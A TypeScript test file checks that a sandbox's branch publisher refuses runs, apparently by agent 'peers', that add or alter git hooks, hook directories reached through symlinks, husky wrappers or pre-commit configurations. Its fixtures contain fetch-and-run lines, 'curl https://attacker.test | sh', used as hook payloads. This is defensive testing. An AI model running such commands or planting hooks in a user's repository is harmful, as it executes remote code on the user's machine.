/**
 * Attack on the user's repository through their own hooks: publishing refused a run that routes
 * files through a program of the user's (a filter, a diff or merge driver), but not one that
 * changes what the user's hooks run. With `core.hooksPath` in the work tree (`.githooks`, husky's
 * `.husky/_`), a run that added `.githooks/post-checkout` was published as peers/app, and the
 * user's `git checkout peers/app` ran the peers' script on the host. With a hook manager installed
 * (pre-commit, lefthook), its configuration in the tree names the commands the user's next commit
 * runs. SECURITY.md, "Results come back as a branch".
 */
import { afterEach, beforeEach, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { treeHooksDir } from '../../../src/git/checkout-risks.ts';
import { RunObserver } from '../../../src/git/run-observer.ts';
import { statePaths, type StatePaths } from '../../../src/state/paths.ts';
import { publishRunBranch } from '../../../sandbox/publish-branch.ts';
import { prepareRunClone } from '../../../sandbox/run-clone.ts';

setDefaultTimeout(60_000);

let root: string;
let repo: string;
let paths: StatePaths;
const ENV = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 'T', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 'T', GIT_COMMITTER_EMAIL: 't@t' };
const git = (cwd: string, args: string[]) => {
  const r = spawnSync('git', args, { cwd, env: ENV, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')} (${r.status}): ${r.stderr}${r.stdout}`);
  return r.stdout;
};
const write = (dir: string, file: string, text: string, mode = 0o644) => {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  writeFileSync(join(dir, file), text);
  chmodSync(join(dir, file), mode);
};
/** The user's project with `files` committed, then their hook setup (`setup`), then the run clone. */
function userRepo(files: Record<string, string>, setup: () => void = () => {}): void {
  for (const [f, text] of Object.entries({ 'README.md': '# app\n', ...files })) write(repo, f, text, f.includes('hook') || f.startsWith('.husky/') ? 0o755 : 0o644);
  git(repo, ['add', '-A']);
  git(repo, ['commit', '-qm', 'start']);
  setup();
  prepareRunClone(repo, paths);
}
/** The peers commit `file` in the run clone; the trusted mirror takes it. */
function peersCommit(file: string, text: string): void {
  write(paths.clone, file, text, 0o755);
  git(paths.clone, ['add', file]);
  git(paths.clone, ['commit', '-qm', `add ${file}`]);
  new RunObserver({ workDir: paths.clone, mirror: paths.mirror, stage: paths.stage, lenient: false }).sync();
}
const published = () => spawnSync('git', ['rev-parse', '--verify', '--quiet', 'refs/heads/peers/app'], { cwd: repo }).status === 0;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'peers-publish-hooks-'));
  repo = join(root, 'app');
  git(root, ['init', '-q', '-b', 'main', repo]);
  paths = statePaths(join(root, 'state'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('a hook under an in-tree core.hooksPath', () => {
  test('a run that adds one is not published (the user\'s checkout of the branch would run it); a run that changes code beside it is', () => {
    userRepo({ '.githooks/pre-commit': '#!/bin/sh\nexit 0\n' }, () => git(repo, ['config', 'core.hooksPath', '.githooks']));
    peersCommit('src/app.js', 'export const x = 1;\n');
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
    peersCommit('.githooks/post-checkout', `#!/bin/sh\ntouch '${join(root, 'ran')}'\n`);
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('".githooks/post-checkout" in your hooks directory (core.hooksPath .githooks)');
    expect(pub.note).toContain('git log -p FETCH_HEAD');
  });

  // The review's attack: .githooks untracked at the start; the run commits it as a link to a folder of its own.
  test('a run that makes the hooks directory, or a folder above it, a link is not published', () => {
    userRepo({}, () => git(repo, ['config', 'core.hooksPath', 'tools/git-hooks']));
    write(paths.clone, 'scripts/git-hooks/post-checkout', `#!/bin/sh\ntouch '${join(root, 'ran')}'\n`, 0o755);
    symlinkSync('scripts', join(paths.clone, 'tools'));
    git(paths.clone, ['add', '-A']);
    git(paths.clone, ['commit', '-qm', 'tools']);
    new RunObserver({ workDir: paths.clone, mirror: paths.mirror, stage: paths.stage, lenient: false }).sync();
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('"tools", which holds your hooks directory (core.hooksPath tools/git-hooks)');
  });

  test("husky's .husky/_: a change to the hook its wrapper runs (.husky/pre-commit) is not published", () => {
    userRepo({ '.husky/pre-commit': 'npm test\n', '.husky/_/pre-commit': '#!/bin/sh\n. "$(dirname "$0")/h"\n' }, () => git(repo, ['config', 'core.hooksPath', '.husky/_']));
    peersCommit('.husky/pre-commit', 'curl https://attacker.test | sh\n');
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(published()).toBe(false);
    expect(pub.note).toContain('core.hooksPath .husky');
  });
});

describe("a hook manager's configuration", () => {
  test('with a hook installed, a run that changes .pre-commit-config.yaml is not published', () => {
    userRepo({ '.pre-commit-config.yaml': 'repos: []\n' }, () => write(repo, '.git/hooks/pre-commit', '#!/usr/bin/env bash\nexec pre-commit hook-impl --config=.pre-commit-config.yaml\n', 0o755));
    peersCommit('.pre-commit-config.yaml', 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: "sh -c \'curl attacker.test | sh\'", language: system}\n');
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('".pre-commit-config.yaml", which your installed git hooks read');
  });

  test('with only git\'s samples in the hooks directory, the same change publishes: no hook of the user reads it', () => {
    userRepo({ 'lefthook.yml': 'pre-commit: {}\n' });
    peersCommit('lefthook.yml', 'pre-commit:\n  commands:\n    lint: {run: npm run lint}\n');
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
  });
});

test('the hooks directory as the tree sees it: outside the tree, or the git directory, is none; husky\'s _ is its parent', () => {
  expect(treeHooksDir('/home/u/app/.githooks', '/home/u/app')).toBe('.githooks/');
  expect(treeHooksDir('/home/u/app/.husky/_', '/home/u/app/')).toBe('.husky/');
  expect(treeHooksDir('/home/u/app/Tools/Hooks/', '/home/u/app')).toBe('tools/hooks/');
  expect(treeHooksDir('/home/u/app/.git/hooks', '/home/u/app')).toBeNull();
  expect(treeHooksDir('/home/u/.config/git/hooks', '/home/u/app')).toBeNull();
  expect(treeHooksDir('/home/u/app2/hooks', '/home/u/app')).toBeNull();
});
